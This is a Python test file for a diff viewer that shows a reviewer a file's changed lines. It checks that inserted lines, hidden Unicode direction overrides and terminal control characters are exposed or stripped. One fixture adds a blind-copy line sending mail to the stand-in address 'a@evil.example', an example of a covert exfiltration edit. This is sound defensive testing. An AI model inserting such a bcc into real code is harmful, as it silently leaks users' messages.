"""A file's changed lines, as a person reads them: all that fits, and nothing in them that hides."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandbox.update.text_diff import MOST_COMPARED, WIDTH, lines

SEND = "send({\n  to,\n  text,\n})\n"
LONG = "x" * 5000


@pytest.mark.parametrize(
    ("old", "new", "shown"),
    [
        pytest.param(
            SEND,
            SEND.replace("  to,\n", "  to,\n  bcc: 'a@evil.example',\n"),
            [
                (" ", "send({"),
                (" ", "  to,"),
                ("+", "  bcc: 'a@evil.example',"),
                (" ", "  text,"),
                (" ", "})"),
            ],
            id="a line more",
        ),
        pytest.param("a\n", "b\n", [("-", "a"), ("+", "b")], id="another line"),
        pytest.param("", "a\n", [("+", "a")], id="a new file"),
        pytest.param("a\n", "", [("-", "a")], id="a file that is gone"),
        pytest.param("a\n", "a\n", [(" ", "a")], id="nothing"),
        pytest.param(
            "a\n", "a\u202eb\n", [("-", "a"), ("+", "a⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩b")], id="hidden"
        ),
    ],
)
def test_what_changed_is_shown(old: str, new: str, shown: list[tuple[str, str]]) -> None:
    assert lines(old, new, 100) == shown


def test_of_a_long_line_the_place_is_shown_in_which_it_differs() -> None:
    found = dict(lines(LONG + "good" + LONG, LONG + "evil" + LONG, 100))
    assert "evil" in found["+"]
    assert "good" in found["-"]
    assert len(found["+"]) < WIDTH + 60


def test_what_is_not_shown_is_counted() -> None:
    found = lines("", "".join(f"{at}\n" for at in range(100)), 10)
    assert found[-1] == ("…", "90 more changed lines")
    assert len(found) == 11


def test_a_hostile_pair_costs_no_more_than_a_moment() -> None:
    many = 50 * MOST_COMPARED
    began = time.process_time()
    lines("a\nb\n" * many, "b\nc\n" * many, 400)
    lines("a\nb\n" * (MOST_COMPARED // 2), "b\na\n" * (MOST_COMPARED // 2), 400)
    assert time.process_time() - began < 10.0


@given(st.text(), st.text())
def test_no_line_drives_a_terminal(old: str, new: str) -> None:
    for _, text in lines(old, new, 50):
        assert not any(ord(char) < 32 or ord(char) == 127 for char in text)
